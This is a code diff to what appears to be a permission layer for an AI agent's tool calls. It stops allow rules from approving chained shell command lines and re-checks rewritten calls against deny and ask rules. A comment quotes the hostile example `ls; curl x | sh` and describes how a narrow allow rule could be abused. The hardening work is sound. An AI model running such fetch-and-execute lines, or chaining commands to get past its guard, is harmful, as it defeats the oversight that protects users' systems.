@@ -219,6 +219,11 @@ def steer_reply(harness, event, row, envelope, effective, env, root, deadline, v
         return reply
 
     decision = verdict.decision if verdict is not None else None
+    if decision == "allow" and _chained(envelope):
+        # `^(ls|cat)\b` must not approve `ls; curl x | sh`: the host asks as it would without the rule
+        notes.append(f"rule {verdict.rule!r}: {CHAINED}; no opinion, the host asks as usual")
+        journal.append({"kind": "allow", "name": verdict.rule, "not_given": CHAINED})
+        return done(answer.proceed(harness))
     if decision == "allow":
         if "allow" in offers:
             parts["allow"] = verdict.reason
@@ -233,13 +238,39 @@ def steer_reply(harness, event, row, envelope, effective, env, root, deadline, v
         else:
             from pasture.runtime.steer import rewrite
 
-            new, changes, problem = rewrite(verdict.rewrites, envelope.get("tool_input"))
+            new, changes, problem = rewrite(verdict.rewrites, envelope.get("tool_input"), deadline)
+            if problem is None and changes and _chained(envelope, new):  # a rewrite is an allow of its result
+                problem = f"the rewritten {CHAINED} (a rewrite approves the call it makes)"
             if problem is not None:
                 refused = unsupported("rewrite", verdict.entry, f"rule {verdict.rule!r}", f"cannot rewrite: {problem}")
             elif changes:
                 said = "; ".join(f"{field} {before!r} -> {after!r}" for field, before, after, _ in changes)
                 for field, before, after, rule in changes:
                     journal.append({"kind": "rewrite", "name": rule, "field": field, "before": before, "after": after})
+                # What runs is the rewritten call: the guard and every layer judge it again, so a rewrite
+                # never carries past a deny or an ask what its input would get (issue 17, an attacker's try).
+                again = _judge_rewritten(envelope, new, effective, deadline, verdict.failure)
+                if again is not None:
+                    journal.append({"kind": "rewrite", "judged_again": again.decision, "rule": again.rule})
+                    if again.decision not in ("deny", "ask"):  # by on_unsupported: never the original unchanged
+                        facts["failure"] = again.failure
+                        refused = unsupported(
+                            "rewrite",
+                            verdict.entry,
+                            f"rule {verdict.rule!r}",
+                            f"the rewritten call ({said}) could not be judged: {again.failure}",
+                        )
+                        return done(refused or answer.proceed(harness))
+                    facts.update(
+                        decision=again.decision,
+                        gate=again.gate,
+                        reason=again.reason,
+                        failure=again.failure,
+                        layer=again.layer,
+                        rule=again.rule,
+                    )
+                    why = f"{again.reason} (the call as rule {verdict.rule!r} rewrote it: {said})"
+                    return done(answer.deliver(harness, event, row, again.decision, why))
                 told = f"pasture rewrote this call (rule {verdict.rule!r}): {said}"
                 parts["rewrite"] = (new, told)
                 notes.append(told.replace("pasture rewrote", "rewrote", 1))
@@ -256,7 +287,11 @@ def steer_reply(harness, event, row, envelope, effective, env, root, deadline, v
             for key in keys:
                 entries = effective.steer[key]
                 if key == "until":
-                    reason = steer.until(entries, envelope, root, env, deadline, journal)
+                    try:
+                        reason = steer.until(entries, envelope, root, env, deadline, journal)
+                    except steer.CounterLost as exc:  # uncounted is unbounded: the agent may stop
+                        notes.append(f"{event}: {exc}; the agent may stop")
+                        continue
                     if reason is None:
                         continue
                     if "continue" in offers:
@@ -291,6 +326,37 @@ def steer_reply(harness, event, row, envelope, effective, env, root, deadline, v
             return done(answer.fail(harness, row, f"{event}: {exc}"))
     reply = answer.steered(harness, event, row, parts)
     return done(reply)
+
+
+# What chains or substitutes commands in a shell line (redirections are not here: `echo x > f` is one command)
+_CHAINS = (";", "&", "|", "\n", "\r", "`", "$(", "<(", ">(")
+CHAINED = "shell command line runs more than one command (; & | newline ` $( <( >(): allow is not given for it"
+
+
+def _chained(envelope: dict, tool_input: dict | None = None) -> bool:
+    """A shell call whose command line holds more than one command (or a substitution): an allow (or a
+    rewrite, which the host runs as approved) given for its first words would approve all of it."""
+    if envelope.get("tool_kind") != "shell":
+        return False
+    if tool_input is None:
+        tool_input = envelope.get("tool_input")
+    if not isinstance(tool_input, dict):
+        return False
+    value = tool_input.get("command", tool_input.get("cmd"))  # the command line (a string, or an argv list)
+    words = value if isinstance(value, list) else [value]
+    return any(isinstance(word, str) and any(mark in word for mark in _CHAINS) for word in words)
+
+
+def _judge_rewritten(envelope: dict, new: dict, effective, deadline: float, failed_before):
+    """The verdict on the rewritten call when it may not run as rewritten: a deny, an ask, or a failure
+    (a gate that failed on it) the original call did not have; None when the rewrite stands."""
+    from pasture.runtime.effective import evaluate
+    from pasture.runtime.envelope import with_input
+
+    again = evaluate(effective, with_input(envelope, new), deadline)
+    if again.decision in ("deny", "ask") or (again.failure is not None and failed_before is None):
+        return again
+    return None
 
 
 def respond(
